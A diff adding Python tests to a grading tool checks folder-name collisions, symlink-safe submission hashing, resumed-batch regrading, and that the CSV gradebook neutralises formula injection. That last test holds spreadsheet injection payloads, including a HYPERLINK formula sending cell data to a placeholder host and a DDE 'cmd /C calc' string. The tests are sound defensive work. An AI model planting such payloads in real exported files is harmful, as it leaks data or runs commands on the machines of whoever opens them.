@@ -4,6 +4,7 @@ The whole-batch versions of these cases (graded in the namespaces sandbox, grade
 checked) are in tests/test_grading_hostile.py; here each rule is one fast call.
 """
 
+import json
 import os
 import unicodedata
 from pathlib import Path
@@ -91,3 +92,78 @@ def test_the_gradebook_holds_every_odd_name(tmp_path, name):
     path = write_gradebook(tmp_path / "gradebook.csv", rows, seed=3)
     got = list(csv.DictReader(open(path, encoding="utf-8")))
     assert [r["submission"] for r in got] == sorted([display_name(name), "b"])
+
+
+def test_names_that_fold_together_get_folders_that_do_not(tmp_path):
+    """Alice and alice (and café composed/decomposed) are one folder on a case-insensitive or normalising disk."""
+    from gradcheck.grading.runner import result_folders
+
+    nfc, nfd = unicodedata.normalize("NFC", "caf\u00e9"), unicodedata.normalize("NFD", "caf\u00e9")
+    names = ["alice", "Alice", "ALICE", nfc, nfd, "bob", "Gradebook.csv", "gradebook.CSV", "x~"]
+    folders = result_folders(tmp_path, names)
+    assert folders["ALICE"] == tmp_path / "ALICE" and folders["bob"] == tmp_path / "bob"  # first in sorted order
+    assert folders["Alice"].name.startswith("Alice~") and folders["alice"].name.startswith("alice~")
+    assert folders[nfd] == tmp_path / nfd and folders[nfc].name.startswith(nfc + "~")
+    assert folders["Gradebook.csv"].name == "Gradebook.csv~" and folders["gradebook.CSV"].name.startswith(
+        "gradebook.CSV~~")
+    folded = [unicodedata.normalize("NFC", p.name).casefold() for p in folders.values()]
+    assert len(set(folded)) == len(names)
+    assert result_folders(tmp_path, list(reversed(names))) == folders  # the same in every run of the batch
+    crafted = folders["alice"].name  # a folder named like a disambiguated one gets one of its own too
+    again = result_folders(tmp_path, [*names, crafted])
+    assert len({unicodedata.normalize("NFC", p.name).casefold() for p in again.values()}) == len(names) + 1
+
+
+def test_names_a_spreadsheet_would_run_as_formulas_are_neutralised_in_the_gradebook(tmp_path):
+    import csv
+
+    from gradcheck.grading.runner import SubmissionResult, write_gradebook
+
+    names = ['=HYPERLINK("http://x.example/?"&A1,"grade")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+             "\tx", "'=x", "plain-name", "a=b"]
+    rows = [SubmissionResult(n, 1.0, 2.0, "graded", 0.1, "p") for n in names]
+    got = {r["submission"] for r in csv.DictReader(open(write_gradebook(tmp_path / "g.csv", rows, seed=1),
+                                                       encoding="utf-8"))}
+    assert got == {"'" + n for n in names[:6]} | {"plain-name", "a=b"}
+    assert not any(c[:1] in "=+-@\t\r" for c in got) and len(got) == len(names)
+
+
+def test_a_submission_digest_sees_every_change_and_follows_no_link(tmp_path):
+    from gradcheck.grading.runner import submission_digest
+
+    sub = tmp_path / "sub"
+    (sub / "hw").mkdir(parents=True)
+    (sub / "layers.py").write_text("x = 1\n")
+    d0 = submission_digest(sub)
+    assert submission_digest(sub) == d0 and len(d0) == 64
+    (sub / "layers.py").write_text("x = 2\n")
+    d1 = submission_digest(sub)
+    (sub / "hw" / "helper.py").write_text("")
+    d2 = submission_digest(sub)
+    (sub / "hw" / "helper.py").rename(sub / "hw" / "helper2.py")
+    d3 = submission_digest(sub)
+    (sub / "link.py").symlink_to(tmp_path / "target.py")  # dangling: never opened
+    d4 = submission_digest(sub)
+    (tmp_path / "target.py").write_text("secret")
+    assert len({d0, d1, d2, d3, d4}) == 5 and submission_digest(sub) == d4
+
+
+def test_a_resumed_batch_warns_and_regrades_a_submission_whose_files_changed(tmp_path):
+    from gradcheck.grading.runner import grade_batch
+
+    solution = (ASSIGN / "solution" / "layers.py").read_text()
+    subs, out = tmp_path / "subs", tmp_path / "out"
+    for name in ("amy", "ben"):
+        (subs / name).mkdir(parents=True)
+        (subs / name / "layers.py").write_text(solution)
+    first = grade_batch(subs, ASSIGN / "tests", out, workers=2, seed=0, progress=False, plot=False,
+                        unsafe_no_isolation=True)
+    assert [s.score for s in first.submissions] == [28.0, 28.0] and not first.changed
+    (subs / "ben" / "layers.py").write_text(solution.replace('self.grads["b"] = dY.sum(axis=0)',
+                                                             'self.grads["b"] = dY.mean(axis=0)'))
+    again = grade_batch(subs, ASSIGN / "tests", out, workers=2, progress=False, plot=False, unsafe_no_isolation=True)
+    by = {s.name: s for s in again.submissions}
+    assert by["amy"].status == "skipped" and by["ben"].status == "graded" and by["ben"].score < 28.0
+    assert again.changed == ["ben"]
+    assert "warning: 1 submission(s) changed since their saved result and were graded again: ben" in again.summary()
+    assert json.loads((out / "ben" / "results.json").read_text())["extra_data"]["submission_sha256"]
